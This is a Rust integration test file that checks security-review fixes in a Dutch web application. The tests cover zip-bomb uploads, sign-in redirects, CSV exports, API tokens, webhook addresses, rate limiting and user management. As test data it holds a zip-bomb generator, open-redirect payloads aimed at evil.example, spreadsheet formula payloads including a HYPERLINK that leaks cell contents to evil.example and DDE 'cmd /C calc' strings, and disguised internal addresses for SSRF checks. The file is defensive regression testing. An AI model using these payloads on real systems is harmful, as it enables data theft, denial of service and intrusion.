//! The security review's findings (issue 18) and the signed-in start (issue 20) through HTTP on both databases:
//! zip bombs, sign-in redirects, CSV formulas, API token keepers, chain-bound names, webhook addresses, the
//! report flood guard, passwords and disabling users, the OpenAPI path parameters, the CSP and uploads' CSRF.

use crate::support::TestApp;
use crate::support::demo_users::{ADMIN, COORDINATOR, PARTNER, STAFF, STEERING};
use keten_core::account::Role;
use serde_json::{Value, json};
use std::sync::OnceLock;
use std::time::{Duration, Instant};

/// A 0.3 MB workbook whose sheet unpacks to about 300 MB: the review's zip bomb, made here rather than committed.
fn zip_bomb() -> &'static [u8] {
    static BOMB: OnceLock<Vec<u8>> = OnceLock::new();
    BOMB.get_or_init(|| {
        use std::io::Write;
        let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        let options = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated)
            .compression_level(Some(9));
        let small = |zip: &mut zip::ZipWriter<_>, name: &str, text: &str| {
            zip.start_file(name, options).unwrap();
            zip.write_all(text.as_bytes()).unwrap();
        };
        small(&mut zip, "[Content_Types].xml", r#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>"#);
        small(&mut zip, "_rels/.rels", r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#);
        small(&mut zip, "xl/workbook.xml", r#"<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Blad1" sheetId="1" r:id="rId1"/></sheets></workbook>"#);
        small(&mut zip, "xl/_rels/workbook.xml.rels", r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#);
        zip.start_file("xl/worksheets/sheet1.xml", options).unwrap();
        zip.write_all(br#"<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>"#).unwrap();
        let rows = r#"<row><c t="inlineStr"><is><t>naam</t></is></c><c t="inlineStr"><is><t>Hoofdstraat 1</t></is></c></row>"#.repeat(2_000);
        for _ in 0..(300 * 1024 * 1024 / rows.len()) {
            zip.write_all(rows.as_bytes()).unwrap();
        }
        zip.write_all(b"</sheetData></worksheet>").unwrap();
        zip.finish().unwrap().into_inner()
    })
}

/// A multipart body as a browser's upload form sends it: text fields, then the file.
fn multipart(fields: &[(&str, &str)], file: Option<(&str, &[u8])>) -> (String, Vec<u8>) {
    let boundary = "----ketenveiliggrens";
    let mut body = Vec::new();
    for (name, value) in fields {
        body.extend_from_slice(
            format!(
                "--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n"
            )
            .as_bytes(),
        );
    }
    if let Some((name, bytes)) = file {
        body.extend_from_slice(
            format!("--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"; filename=\"punten.xlsx\"\r\nContent-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet\r\n\r\n").as_bytes(),
        );
        body.extend_from_slice(bytes);
        body.extend_from_slice(b"\r\n");
    }
    body.extend_from_slice(format!("--{boundary}--\r\n").as_bytes());
    (format!("multipart/form-data; boundary={boundary}"), body)
}

/// Posts an upload form with the CSRF token in the body, as the pages now send it.
async fn upload(
    app: &TestApp,
    client: &reqwest::Client,
    page: &str,
    action: &str,
    file: &[u8],
) -> reqwest::Response {
    let token = app.csrf_token(client, page).await;
    let (content_type, body) = multipart(
        &[("csrf_token", &token), ("actie", "controleren")],
        Some(("bestand", file)),
    );
    client
        .post(app.url(action))
        .header("content-type", content_type)
        .body(body)
        .send()
        .await
        .unwrap()
}

/// [`upload`] with the token in the address as well (still accepted from older pages), so the zip-bomb test
/// does not depend on the body's token being read.
async fn upload_bomb(app: &TestApp, client: &reqwest::Client, page: &str) -> reqwest::Response {
    let token = app.csrf_token(client, page).await;
    let (content_type, body) = multipart(
        &[("csrf_token", &token), ("actie", "controleren")],
        Some(("bestand", zip_bomb())),
    );
    client
        .post(app.url(&format!("{page}?csrf_token={token}")))
        .header("content-type", content_type)
        .body(body)
        .send()
        .await
        .unwrap()
}

/// Signs in through the form with `next`; returns the answer (not followed).
async fn sign_in(app: &TestApp, email: &str, next: &str) -> reqwest::Response {
    let client = app.browser();
    let token = app.csrf_token(&client, "/aanmelden").await;
    client
        .post(app.url("/aanmelden"))
        .form(&[
            ("email", email),
            ("password", crate::support::PASSWORD),
            ("csrf_token", &token),
            ("next", next),
        ])
        .send()
        .await
        .unwrap()
}

fn location(r: &reqwest::Response) -> String {
    r.headers()
        .get("location")
        .map(|l| l.to_str().unwrap().to_owned())
        .unwrap_or_default()
}

/// Every cell of a CSV download, parsed.
fn csv_cells(text: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes());
    reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .collect()
}

both_backends! {
    a_zip_bomb_is_refused_and_other_requests_do_not_wait => |app: TestApp| async move {
        app.demo_chain().await;
        let central = app.help_point("Centrale Bibliotheek").await.id;
        let coordinator = app.signed_in(COORDINATOR).await;
        let bomb = zip_bomb();
        assert!(bomb.len() < 2 * 1024 * 1024, "{} bytes", bomb.len());
        let desk_page = format!("/balie/{central}/inlezen");
        // Three bombs at once, on both imports: before the fix each held one of the two async workers for a minute.
        let directory = upload_bomb(&app, &coordinator, "/beheer/hulppunten/inlezen");
        let again = upload_bomb(&app, &coordinator, "/beheer/hulppunten/inlezen");
        let desk = upload_bomb(&app, &coordinator, &desk_page);
        // /healthz, asked every 100 ms from a thread of its own (outside the runtime the server shares with this
        // test) while the uploads run, at least once: its slowest answer.
        let done = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
        let probe = {
            let done = done.clone();
            let address = app.address.trim_start_matches("http://").to_owned();
            std::thread::spawn(move || {
                use std::io::{Read, Write};
                let mut slowest = Duration::ZERO;
                loop {
                    std::thread::sleep(Duration::from_millis(100));
                    let started = Instant::now();
                    let mut stream = std::net::TcpStream::connect(&address).unwrap();
                    stream.write_all(b"GET /healthz HTTP/1.1\r\nHost: keten\r\nConnection: close\r\n\r\n").unwrap();
                    let mut answer = String::new();
                    stream.read_to_string(&mut answer).unwrap();
                    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
                    slowest = slowest.max(started.elapsed());
                    if done.load(std::sync::atomic::Ordering::SeqCst) {
                        return slowest;
                    }
                }
            })
        };
        let (directory, again, desk) = tokio::join!(directory, again, desk);
        done.store(true, std::sync::atomic::Ordering::SeqCst);
        let waited = probe.join().unwrap();
        assert!(waited < Duration::from_secs(1), "/healthz waited {waited:?} while bombs were read");
        for r in [directory, again, desk] {
            let status = r.status();
            let page = r.text().await.unwrap();
            let alert = page.find("utrecht-alert").map_or("", |i| &page[i..(i + 400).min(page.len())]);
            assert_eq!(status, 422, "{alert}");
            assert!(page.contains("uitgepakt groter dan 64 MB"), "{page}");
        }
        assert!(app.store.directory().await.unwrap().help_points.iter().all(|h| h.name != "naam"));
    };

    upload_forms_carry_the_csrf_token_in_the_body => |app: TestApp| async move {
        app.demo_chain().await;
        let coordinator = app.signed_in(COORDINATOR).await;
        let form = coordinator.get(app.url("/beheer/hulppunten/inlezen")).send().await.unwrap().text().await.unwrap();
        assert!(!form.contains("?csrf_token="), "the token is not in the form's address");
        let csv = b"naam;adres;postcode;plaats;openingstijden\nBuurthuis Test;Dorpsweg 2;3011 AB;Rotterdam;ma 10:00-12:00\n";
        let r = upload(&app, &coordinator, "/beheer/hulppunten/inlezen", "/beheer/hulppunten/inlezen", csv).await;
        assert_ne!(r.status(), 403, "the body's token is accepted");
        let body = r.text().await.unwrap();
        assert!(body.contains("1 regel gelezen, 1 goed"), "the file was read: {body}");
        // Without a token, or with a wrong one, the upload is refused.
        let (content_type, body) = multipart(&[("csrf_token", "nep"), ("actie", "controleren")], Some(("bestand", csv)));
        let r = coordinator.post(app.url("/beheer/hulppunten/inlezen")).header("content-type", content_type).body(body).send().await.unwrap();
        assert_eq!(r.status(), 403);
        let (content_type, body) = multipart(&[("actie", "controleren")], Some(("bestand", csv)));
        let r = coordinator.post(app.url("/beheer/hulppunten/inlezen")).header("content-type", content_type).body(body).send().await.unwrap();
        assert_eq!(r.status(), 403);
    };

    sign_in_goes_to_a_local_path_or_where_the_role_works => |app: TestApp| async move {
        app.demo_chain().await;
        for bad in ["/\t/evil.example/", "/\n/evil.example/", "/\r\n/evil.example/", "//evil.example/", "/\\evil.example", "https://evil.example/", "/ /evil.example"] {
            let r = sign_in(&app, STAFF, bad).await;
            assert_eq!(r.status(), 303, "{bad:?}");
            assert_eq!(location(&r), "/balie", "{bad:?}");
        }
        let r = sign_in(&app, STAFF, "/doorverwijzingen?tab=open").await;
        assert_eq!(location(&r), "/doorverwijzingen?tab=open", "an explicit safe next wins");
        let library = app.help_point("Centrale Bibliotheek").await.organisation_id;
        app.user("programma@keten.test", Role::ProgrammeManager, &library).await;
        for (who, lands) in [
            (STAFF, "/balie"),
            (COORDINATOR, "/balie"),
            (PARTNER, "/doorverwijzingen"),
            (STEERING, "/regie"),
            ("programma@keten.test", "/programmas"),
            (ADMIN, "/beheer"),
        ] {
            let r = sign_in(&app, who, "").await;
            assert_eq!(r.status(), 303, "{who}");
            if matches!(lands, "/regie" | "/programmas" | "/beheer") {
                // These roles give a code from their app first; then they land.
                assert_eq!(location(&r), "/aanmelden/code", "{who}");
                let client = app.password_given(who).await;
                let r = app.give_code(&client, who).await;
                assert_eq!(location(&r), lands, "{who}");
            } else {
                assert_eq!(location(&r), lands, "{who}");
            }
        }
    };

    csv_downloads_neutralise_formulas => |app: TestApp| async move {
        app.demo_chain().await;
        let central = app.help_point("Centrale Bibliotheek").await.id;
        let hyperlink = r#"=HYPERLINK("http://evil.example/?leak="&A2,"Klik hier")"#;
        app.store.execute_raw(&format!("UPDATE help_points SET name = '{}' WHERE id = '{central}'", hyperlink.replace('\'', "''"))).await.unwrap();
        app.store.execute_raw("UPDATE topics SET label = '=cmd|'' /C calc''!A0' WHERE code = 'digid'").await.unwrap();
        app.store.execute_raw("UPDATE question_categories SET label = '@SUM(1+1)*cmd|'' /C calc''!A0' WHERE list = 'agency'").await.unwrap();
        let coordinator = app.signed_in(COORDINATOR).await;
        let r = coordinator.post(app.url("/api/v1/help-questions"))
            .json(&json!({"help_point_id": central, "questions": [{"topic": "digid", "minutes": 12}]}))
            .send().await.unwrap();
        assert_eq!(r.status(), 201, "{}", r.text().await.unwrap());
        let steering = app.signed_in(STEERING).await;
        let downloads = [
            (&coordinator, "/beheer/hulppunten/hulppunten.csv".to_owned()),
            (&coordinator, format!("/balie/{central}/registraties.csv")),
            (&coordinator, format!("/balie/{central}/monitor.csv")),
            (&coordinator, format!("/balie/{central}/instanties.csv")),
            (&steering, "/doorverwijzingen/overzicht.csv".to_owned()),
        ];
        let mut seen = Vec::new();
        for (client, path) in downloads {
            let r = client.get(app.url(&path)).send().await.unwrap();
            assert_eq!(r.status(), 200, "{path}");
            let cells = csv_cells(&r.text().await.unwrap());
            for cell in &cells {
                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{path}: {cell:?}");
            }
            seen.extend(cells);
        }
        for payload in [hyperlink, "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"] {
            assert!(seen.contains(&format!("'{payload}")), "{payload} is in an export, as text");
        }
        // The export reads back in with the name as it was.
        let list = coordinator.get(app.url("/beheer/hulppunten/hulppunten.csv")).send().await.unwrap().text().await.unwrap();
        let report = keten_core::help_point_import::parse_help_points_csv(&list);
        assert!(report.rows.iter().any(|(_, r)| r.as_ref().is_ok_and(|r| r.name == hyperlink)), "the guard is stripped on import");
    };

    api_tokens_have_one_rule_for_page_and_api => |app: TestApp| async move {
        app.demo_chain().await;
        let library = app.help_point("Centrale Bibliotheek").await.organisation_id;
        let maasbank = app.organisation_id("Maasbank").await;
        let page = format!("/organisaties/{library}/api-sleutels");
        let coordinator = app.signed_in(COORDINATOR).await;
        let staff = app.signed_in(STAFF).await;
        let partner = app.signed_in(PARTNER).await;
        let admin = app.signed_in(ADMIN).await;
        // The coordinator keeps the library's tokens; staff and partners do not, on the page or over the API.
        assert_eq!(coordinator.get(app.url(&page)).send().await.unwrap().status(), 200);
        assert_eq!(staff.get(app.url(&page)).send().await.unwrap().status(), 403);
        let create = |client: &reqwest::Client, organisation: &str, role: &str| {
            client.post(app.url("/api/v1/api-tokens")).json(&json!({"organisation_id": organisation, "role": role, "name": "koppeling"})).send()
        };
        assert_eq!(create(&staff, &library, "staff").await.unwrap().status(), 403);
        assert_eq!(create(&partner, &maasbank, "partner").await.unwrap().status(), 403);
        // Never above one's own role.
        assert_eq!(create(&coordinator, &library, "steering").await.unwrap().status(), 422);
        let made: Value = create(&coordinator, &library, "staff").await.unwrap().json().await.unwrap();
        let staff_token = made["token"].as_str().unwrap().to_owned();
        let staff_token_id = made["id"].as_str().unwrap().to_owned();
        let made: Value = create(&coordinator, &library, "coordinator").await.unwrap().json().await.unwrap();
        let coordinator_token_id = made["id"].as_str().unwrap().to_owned();
        let made: Value = create(&admin, &library, "steering").await.unwrap().json().await.unwrap();
        let steering_token_id = made["id"].as_str().unwrap().to_owned();
        // A staff token cannot revoke a coordinator's token; a coordinator cannot revoke a steering token.
        let api = reqwest::Client::new();
        let r = api.delete(app.url(&format!("/api/v1/api-tokens/{coordinator_token_id}"))).bearer_auth(&staff_token).send().await.unwrap();
        assert_eq!(r.status(), 403);
        let r = coordinator.delete(app.url(&format!("/api/v1/api-tokens/{steering_token_id}"))).send().await.unwrap();
        assert_eq!(r.status(), 403);
        let r = staff.delete(app.url(&format!("/api/v1/api-tokens/{staff_token_id}"))).send().await.unwrap();
        assert_eq!(r.status(), 403);
        let list = coordinator.get(app.url(&page)).send().await.unwrap().text().await.unwrap();
        assert!(list.contains(&format!("{page}/{coordinator_token_id}/intrekken")));
        assert!(!list.contains(&format!("{page}/{steering_token_id}/intrekken")), "no button for a higher role's token");
        let r = app.post_form(&coordinator, &page, &format!("{page}/{steering_token_id}/intrekken"), &[]).await;
        assert_eq!(r.status(), 403);
        // What the coordinator keeps, it revokes, on the page and over the API; an admin revokes anything.
        let r = app.post_form(&coordinator, &page, &format!("{page}/{coordinator_token_id}/intrekken"), &[]).await;
        assert_eq!(r.status(), 303);
        let r = coordinator.delete(app.url(&format!("/api/v1/api-tokens/{staff_token_id}"))).send().await.unwrap();
        assert_eq!(r.status(), 204);
        assert_eq!(api.get(app.url("/api/v1/me")).bearer_auth(&staff_token).send().await.unwrap().status(), 401);
        let r = admin.delete(app.url(&format!("/api/v1/api-tokens/{steering_token_id}"))).send().await.unwrap();
        assert_eq!(r.status(), 204);
    };

    rules_and_registrations_name_only_organisations_of_the_chain => |app: TestApp| async move {
        app.demo_chain().await;
        let central = app.help_point("Centrale Bibliotheek").await.id;
        let maasbank = app.organisation_id("Maasbank").await;
        let ghent_bank = app.organisation("Spaarbank Gent", "partner", "private", "44021").await;
        let steering = app.signed_in(STEERING).await;
        let rule = |organisation: &str| json!({"municipality_code": "GM0599", "topic": "bankzaken", "organisation_id": organisation, "priority": 1});
        let r = steering.post(app.url("/api/v1/routing-rules")).json(&rule(&ghent_bank)).send().await.unwrap();
        assert_eq!(r.status(), 404, "another chain's bank: {}", r.text().await.unwrap());
        let r = steering.post(app.url("/api/v1/routing-rules")).json(&rule(&maasbank)).send().await.unwrap();
        assert_eq!(r.status(), 201, "{}", r.text().await.unwrap());
        let coordinator = app.signed_in(COORDINATOR).await;
        let visit = |organisation: &str| json!({"help_point_id": central, "questions": [{"topic": "digid", "minutes": 5, "outcome": "referred", "referred_to": organisation}]});
        let r = coordinator.post(app.url("/api/v1/help-questions")).json(&visit(&ghent_bank)).send().await.unwrap();
        assert_eq!(r.status(), 422);
        assert!(r.text().await.unwrap().contains("kennen we niet in de keten"));
        let r = coordinator.post(app.url("/api/v1/help-questions")).json(&visit(&maasbank)).send().await.unwrap();
        assert_eq!(r.status(), 201, "{}", r.text().await.unwrap());
    };

    webhooks_refuse_internal_addresses_in_disguise => |app: TestApp| async move {
        app.demo_chain().await;
        let maasbank = app.organisation_id("Maasbank").await;
        let partner = app.signed_in(PARTNER).await;
        let path = format!("/api/v1/organisations/{maasbank}/webhook");
        for internal in ["http://[::127.0.0.1]/h", "http://[64:ff9b::a00:1]/h", "http://[2002:7f00:1::]/h", "http://[fec0::1]/h", "http://198.18.0.1/h"] {
            let r = partner.put(app.url(&path)).json(&json!({"url": internal})).send().await.unwrap();
            assert_eq!(r.status(), 422, "{internal}");
        }
        let r = partner.put(app.url(&path)).json(&json!({"url": "https://hooks.maasbank.example/keten"})).send().await.unwrap();
        assert!(r.status().is_success(), "{}", r.status());
    };

    reports_of_wrong_information_have_a_flood_guard => |app: TestApp| async move {
        app.demo_chain().await;
        let central = app.help_point("Centrale Bibliotheek").await.id;
        let page = format!("/hulppunten/{central}");
        let client = app.browser();
        let mut statuses = Vec::new();
        for n in 0..7 {
            let r = app.post_form(&client, &page, &format!("{page}/melding"), &[("message", &format!("Melding {n}"))]).await;
            statuses.push(r.status().as_u16());
            if r.status() == 429 {
                assert!(r.headers().contains_key("retry-after"));
                assert!(r.text().await.unwrap().contains("Probeer het over"));
            }
        }
        assert_eq!(statuses, [200, 200, 200, 200, 200, 429, 429]);
        let coordinator = app.signed_in(COORDINATOR).await;
        let edit = coordinator.get(app.url(&format!("/beheer/hulppunten/{central}"))).send().await.unwrap().text().await.unwrap();
        assert!(edit.contains("Meldingen van inwoners (5)"), "five reports stored, not seven");
    };

    weak_passwords_are_refused_and_admins_disable_and_remove_users => |app: TestApp| async move {
        app.demo_chain().await;
        let library = app.help_point("Centrale Bibliotheek").await.organisation_id;
        let admin = app.signed_in(ADMIN).await;
        for weak in ["            ", "aaaaaaaaaaaa", "wachtwoord123"] {
            let r = admin.post(app.url("/api/v1/users"))
                .json(&json!({"email": "nieuw@keten.test", "display_name": "Nieuw", "password": weak, "role": "staff", "organisation_id": library}))
                .send().await.unwrap();
            assert_eq!(r.status(), 422, "{weak:?}");
        }
        let r = app.post_form(&admin, "/beheer", "/beheer/gebruikers", &[("email", "nieuw@keten.test"), ("display_name", "Nieuw"), ("password", "aaaaaaaaaaaa"), ("role", "staff"), ("organisation_id", &library)]).await;
        assert_eq!(r.status(), 422);
        let page = r.text().await.unwrap();
        assert!(page.contains("veel gebruikt") && page.contains("value=\"nieuw@keten.test\""), "a Dutch message, the form kept");
        // The admin page links to user management.
        let overview = admin.get(app.url("/beheer")).send().await.unwrap().text().await.unwrap();
        assert!(overview.contains("href=\"/beheer/gebruikers\""));
        // Disabling ends the user's sessions at once and refuses sign-in.
        let staff = app.signed_in(STAFF).await;
        assert_eq!(staff.get(app.url("/api/v1/me")).send().await.unwrap().status(), 200);
        let staff_id = app.actor(STAFF).await.user_id.unwrap();
        let r = admin.post(app.url(&format!("/api/v1/users/{staff_id}/disable"))).json(&json!({})).send().await.unwrap();
        assert_eq!(r.status(), 200);
        assert_eq!(r.json::<Value>().await.unwrap()["disabled"], true);
        assert_eq!(staff.get(app.url("/api/v1/me")).send().await.unwrap().status(), 401);
        assert_eq!(sign_in(&app, STAFF, "").await.status(), 401);
        // Only admins, and never themselves.
        let coordinator = app.signed_in(COORDINATOR).await;
        let coordinator_id = app.actor(COORDINATOR).await.user_id.unwrap();
        let admin_id = app.actor(ADMIN).await.user_id.unwrap();
        assert_eq!(coordinator.delete(app.url(&format!("/api/v1/users/{staff_id}"))).send().await.unwrap().status(), 403);
        assert_eq!(admin.delete(app.url(&format!("/api/v1/users/{admin_id}"))).send().await.unwrap().status(), 409);
        // Removing through the page: the user and their sessions are gone.
        let users = admin.get(app.url("/beheer/gebruikers")).send().await.unwrap().text().await.unwrap();
        assert!(users.contains(COORDINATOR) && users.contains("Uitgeschakeld"));
        let r = app.post_form(&admin, "/beheer/gebruikers", &format!("/beheer/gebruikers/{coordinator_id}/verwijderen"), &[]).await;
        assert_eq!(r.status(), 303);
        assert_eq!(location(&r), "/beheer/gebruikers?gedaan=verwijderd");
        assert_eq!(coordinator.get(app.url("/api/v1/me")).send().await.unwrap().status(), 401);
        assert!(app.store.user(&coordinator_id).await.is_err());
        let r = admin.delete(app.url(&format!("/api/v1/users/{staff_id}"))).send().await.unwrap();
        assert_eq!(r.status(), 204);
        assert_eq!(admin.delete(app.url(&format!("/api/v1/users/{staff_id}"))).send().await.unwrap().status(), 404);
    };

    the_openapi_document_types_every_path_parameter => |app: TestApp| async move {
        let doc: Value = app.browser().get(app.url("/api/openapi.json")).send().await.unwrap().json().await.unwrap();
        let mut checked = 0;
        for (path, operations) in doc["paths"].as_object().unwrap() {
            for (_, operation) in operations.as_object().unwrap() {
                for parameter in operation["parameters"].as_array().into_iter().flatten() {
                    if parameter["in"] == "path" {
                        assert!(parameter["schema"].is_object(), "{path}: {parameter}");
                        checked += usize::from(path.starts_with("/hsds/"));
                    }
                }
            }
        }
        assert_eq!(checked, 5, "the five /hsds/*/{{id}} operations");
    };

    images_come_only_from_the_tile_server => |app: TestApp| async move {
        let r = app.browser().get(app.url("/")).send().await.unwrap();
        let csp = r.headers()["content-security-policy"].to_str().unwrap().to_owned();
        assert!(csp.contains("img-src 'self' data: https://tile.openstreetmap.org;"), "{csp}");
        assert!(!csp.contains("https:;") && !csp.contains("https: "), "{csp}");
    };
}
